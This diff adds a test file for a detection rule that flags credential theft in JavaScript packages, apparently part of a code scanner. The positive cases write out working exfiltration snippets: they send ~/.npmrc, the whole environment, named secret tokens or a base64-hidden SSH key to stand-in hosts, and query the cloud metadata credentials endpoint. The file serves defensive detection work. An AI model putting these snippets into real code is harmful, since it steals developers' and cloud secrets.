@@ -1,0 +1,65 @@
+import { testFileRule } from '../../test/rule-cases.ts';
+import { credentialTheft } from './credential-theft.ts';
+
+testFileRule(credentialTheft, [
+  {
+    name: '.npmrc is read and posted',
+    text: `const fs = require('fs'), os = require('os'), https = require('https');
+      const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+      https.request({ host: 'collect.example', method: 'POST' }).end(rc);`,
+    tier: 'review',
+  },
+  {
+    name: 'the whole environment is sent',
+    text: `import https from 'node:https';
+      https.request('https://collect.example', { method: 'POST' }).end(JSON.stringify(process.env));`,
+    tier: 'review',
+  },
+  {
+    name: 'the environment goes to a webhook',
+    text: `fetch('https://webhook.site/5f0c', { method: 'POST', body: JSON.stringify({ ...process.env }) });`,
+    tier: 'block',
+  },
+  {
+    name: 'a list of tokens is collected',
+    text: `const found = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY, process.env.VAULT_TOKEN];
+      require('axios').post('https://collect.example', { found });`,
+    tier: 'review',
+  },
+  {
+    name: 'names are hidden in base64',
+    text: `const p = Buffer.from('Ly5zc2gvaWRfcnNh', 'base64').toString();
+      fetch('https://collect.example', { method: 'POST', body: require('fs').readFileSync(process.env.HOME + p) });`,
+    tier: 'review',
+  },
+  {
+    name: 'cloud metadata is asked for',
+    text: `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text())`,
+    tier: 'review',
+  },
+  {
+    name: 'one token for one service',
+    text: `fetch('https://api.example', { headers: { authorization: process.env.GITHUB_TOKEN } })`,
+    tier: null,
+  },
+  {
+    name: 'one variable inside of a request',
+    text: `fetch(\`\${process.env.API_URL}/x\`, { headers: { a: process.env.KEY } })`,
+    tier: null,
+  },
+  {
+    name: 'the environment is passed on to a child',
+    text: `require('child_process').spawn('node', ['x'], { env: Object.assign({}, process.env) }); fetch('https://api.example')`,
+    tier: null,
+  },
+  {
+    name: 'configuration is read without any network',
+    text: `require('fs').readFileSync(require('os').homedir() + '/.npmrc')`,
+    tier: null,
+  },
+  {
+    name: 'a comment',
+    text: `// steals ~/.npmrc and ~/.ssh/id_rsa\nfetch('https://api.example')`,
+    tier: null,
+  },
+]);
